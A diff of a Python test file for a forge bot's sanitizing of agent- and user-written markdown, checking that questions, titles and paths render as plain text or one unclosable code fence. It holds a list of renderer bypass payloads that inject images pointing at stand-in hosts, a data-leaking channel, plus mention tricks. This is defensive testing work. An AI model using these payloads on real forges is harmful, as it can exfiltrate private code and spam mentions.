@@ -1,57 +1,65 @@
-"""What the bot posts of an agent's own markdown (a review, a question): readable, and inert."""
+"""What the bot posts of others' text (the agent's review, question and paths; an issue's title):
+shown as written, with nothing in it that renders: no image (a reader's browser would fetch its
+address, which can carry the private code out), no HTML, no mention, no markup at all."""
 
+import re
 from dataclasses import replace
 
 from bot.report import sentences
-from bot.report.sentences import inert
+from bot.report.sentences import fenced, plain
 from bot.store import Run, RunRequest
 
-
-def test_images_html_and_mentions_are_made_inert_outside_code():
-    assert inert("see ![x](http://evil.invalid/x.png?d=c2VjcmV0) now") == "see \\![x](http://evil.invalid/x.png?d=c2VjcmV0) now"
-    assert inert("![y][ref]") == "\\![y][ref]"
-    assert inert('<img src="http://evil.invalid/p.png"> and <details>') == '&lt;img src="http://evil.invalid/p.png"> and &lt;details>'
-    assert inert("cc @rita, thanks @bob.") == "cc ＠rita, thanks ＠bob."  # a full-width @ mentions nobody
-    assert inert("(@rita) _x_@bob") == "(＠rita) _x_＠bob"
-
-
-def test_what_is_not_active_is_left_as_written():
-    for text in ("mail bob@example.com", "a [link](http://x.invalid)", "done \\![x](y)", "! [not an image]"):
-        assert inert(text) == text
-    assert inert("1 < 2") == "1 &lt; 2"  # shown the same once rendered
-
-
-def test_code_blocks_and_spans_show_as_written():
-    text = "\n".join(["use `@decorator` and `<T>`:", "````python", "x = '![a](b)' @c <d>", "```", "still code @e",
-                      "````", "~~~", "<f>", "~~~", "after @g"])
-    assert inert(text).split("\n") == [
-        "use `@decorator` and `<T>`:", "````python", "x = '![a](b)' @c <d>", "```", "still code @e", "````",
-        "~~~", "<f>", "~~~", "after ＠g"]
+# Ways around a cleverer filter, found by an attacker's reading and checked with renderers
+# (goldmark as Gitea sets it up, cmark-gfm, markdown-it): each rendered an image or HTML.
+HOSTILE = [
+    "```\r\ncode\r\n```\r\n<img src=//e/1.png>\r\n",  # CRLF: a fence the filter saw open
+    "~~~\r~~~\r<img src=//e/2.png>",  # a lone CR is a line break to the renderer
+    "`\x0c\x0c<img src=//e/3.png>`",  # and so are these to a quote that splits the lines again
+    "~~~\u2028~~~\u2028<img src=//e/4.png>",
+    "a `\n\u00a0\n`<img src=//e/5.png>`",  # a line of a no-break space is no blank line
+    "[a](`b)![x](//e/6.png) @admin`",  # a link's destination takes the backtick first
+    "# `<img src=//e/7.png>{title=\"`\"}",  # heading attributes
+    "$a`$ `x` <img src=//e/8.png> `",  # Gitea's inline math takes the backtick first
+    "$$\n```\n$$\n<img src=//e/9.png>",  # and its math block the fence
+    "hi &#64;admin and &commat;root",  # rendered "@admin", then mentioned
+    "````\n````` x\n![i](//e/10.png)",
+]
 
 
-def test_the_agents_question_and_the_task_in_the_status_comment_are_inert():
+def lines_of_one_block(block: str) -> list[str]:
+    """The lines inside ``block``, which must be one code fence nothing inside can close."""
+    assert "\r" not in block and all(len(line.splitlines()) <= 1 for line in block.split("\n")), repr(block)
+    first, *inside, last = block.split("\n")
+    assert re.fullmatch(r"`{3,}", first) and last == first, block
+    assert not any(re.fullmatch(rf" {{0,3}}`{{{len(first)},}}\s*", line) for line in inside), block
+    return inside
+
+
+def test_the_agents_text_is_one_code_fence_it_cannot_close_or_leave():
+    for text in HOSTILE:
+        inside = lines_of_one_block(fenced(text))
+        assert inside == text.splitlines(), text  # shown as written, line by line
+
+
+def test_one_line_of_anyones_text_is_plain_text():
+    for text in [*HOSTILE, "Fix ![x](http://evil.invalid/t.png) for @rita <b>"]:
+        made = plain(text)
+        assert "\n" not in made and "@" not in made, made
+        assert re.search(r"(?<!\\)(?:\\\\)*[!-/:-?\[\]^_`{-~]", made.replace("\\\\", "")) is None, made
+    assert plain("Fix ![x](u) for @rita") == "Fix \\!\\[x\\]\\(u\\) for ＠rita"  # renders as it was typed
+
+
+def test_the_question_the_task_and_the_paths_in_the_status_comment_show_nothing_active():
     request = RunRequest(owner="acme", repo="widgets", number=1, is_pull=False, agent="codex", model="", pool="codex",
-                         review=False, task="", trigger="label", requested_by="bob")
-    run = replace(Run.draft(request), state="blocked", question="Which API? ![x](http://evil.invalid/q.png) @rita <b>v2</b>")
-    body = sentences.status_comment(replace(run, task="Fix ![x](http://evil.invalid/t.png) for @rita"))
-    assert "Requested by @bob: “Fix \\![x](http://evil.invalid/t.png) for ＠rita”" in body  # a title is anyone's
-    assert "> Which API? \\![x](http://evil.invalid/q.png) ＠rita &lt;b>v2&lt;/b>" in body
-
-
-def test_what_only_looks_like_code_to_a_careless_reader_is_made_inert():
-    """Each of these renders its image or mention on the Forge (CommonMark), or would in some place
-    (a table row, after a blank line): what is not surely code is made inert."""
-    cases = {
-        "`a ![i](http://evil.invalid/1.png)``": "`a \\![i](http://evil.invalid/1.png)``",  # `` does not close `
-        "``` x`\n![i](http://evil.invalid/2.png)": "``` x`\n\\![i](http://evil.invalid/2.png)",  # ` in the info: no fence
-        "- a\n  ```\n![i](http://evil.invalid/3.png)": "- a\n  ```\n\\![i](http://evil.invalid/3.png)",  # ends with its item
-        "\\\\![i](http://evil.invalid/4.png)": "\\\\\\![i](http://evil.invalid/4.png)",  # \\ is a backslash shown
-        "`a` b` ![i](http://evil.invalid/5.png) `c`": "`a` b` \\![i](http://evil.invalid/5.png) `c`",  # a lone ` on the line
-        "`a\nb` ![i](http://evil.invalid/6.png) `c`": "`a\nb` \\![i](http://evil.invalid/6.png) `c`",  # a span over lines
-        "\\\\`a` ![i](http://evil.invalid/7.png) `b`": "\\\\`a` \\![i](http://evil.invalid/7.png) `b`",  # \\ then `
-        "| `a | ![i](http://evil.invalid/8.png) ` |": "| `a | \\![i](http://evil.invalid/8.png) ` |",  # a table's cells
-        "\\@rita": "\\＠rita",  # rendered "@rita", then mentioned
-    }
-    for text, made in cases.items():
-        assert inert(text) == made, text
-    assert inert("```\n<kept>") == "```\n<kept>\n```"  # a fence left open is closed: what follows is no code
+                         review=False, task="Fix ![x](http://evil.invalid/t.png) for @rita", trigger="label",
+                         requested_by="bob")
+    for question in HOSTILE:
+        run = replace(Run.draft(request), state="blocked", question=question)
+        body = sentences.status_comment(run)
+        assert "Requested by @bob: “Fix \\!\\[x\\]\\(http\\:\\/\\/evil\\.invalid\\/t\\.png\\) for ＠rita”" in body
+        quoted = [line for line in body.split("\n") if line.startswith(">")]
+        assert lines_of_one_block("\n".join(line.removeprefix("> ") for line in quoted)) == question.strip().splitlines()
+    violations = [f"protected path changed: {HOSTILE[1]}", "file over 1048576 bytes: <img src=//e/p.png>"]
+    failed = replace(Run.draft(request), state="failed", reason="branch rules",
+                     result=replace(Run.draft(request).result, violations=violations))
+    assert fenced("\n".join(violations)) in sentences.status_comment(failed)  # one block, as tested above
